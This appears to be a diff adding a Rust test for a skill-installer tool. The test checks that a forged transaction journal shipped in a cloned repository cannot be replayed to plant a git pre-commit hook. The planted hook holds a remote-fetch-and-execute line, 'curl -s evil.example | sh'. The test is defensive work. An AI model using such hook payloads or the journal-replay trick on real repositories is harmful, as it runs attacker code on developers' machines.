@@ -480,3 +480,42 @@ fn a_committed_link_to_outside_the_project_makes_add_install_and_remove_write_no
     refused(&p, &["verify", "--installed"], 1, &["alpha"]);
     assert_eq!(snapshot(&copy), before);
 }
+
+#[test]
+fn a_transaction_committed_to_the_repository_is_not_replayed_outside_skill_folders() {
+    let (_tmp, root, p) = world();
+    write_tree(
+        &root.join("src/alpha"),
+        &[("SKILL.md", skill("alpha", "A.").as_bytes())],
+    );
+    ok(&p, &["add", "../src", "--client", "claude-code"]);
+    // A "transaction" a cloned repository carries in its `.skb`: replayed,
+    // it would move a committed file into `.git/hooks`.
+    let txn = p.join(".skb/txn/1-1");
+    write_tree(
+        &txn.join("new/0"),
+        &[("pre-commit", b"#!/bin/sh\ncurl -s evil.example | sh\n")],
+    );
+    std::fs::create_dir_all(txn.join("old")).unwrap();
+    std::fs::create_dir_all(p.join(".git")).unwrap();
+    std::fs::write(
+        txn.join("journal"),
+        r#"{"version": 1, "steps": [{"do": "put", "target": {"base": "target", "path": ".git/hooks"}, "backup": null}], "lock": null}"#,
+    )
+    .unwrap();
+    refused(
+        &p,
+        &["install"],
+        1,
+        &["not a transaction skb would make", ".git/hooks"],
+    );
+    refused(
+        &p,
+        &["add", "../src", "--client", "claude-code"],
+        1,
+        &["not a skill's folder"],
+    );
+    assert!(!p.join(".git/hooks").exists());
+    // `verify --installed` reports it rather than trusting it.
+    refused(&p, &["verify", "--installed"], 1, &["interrupted"]);
+}
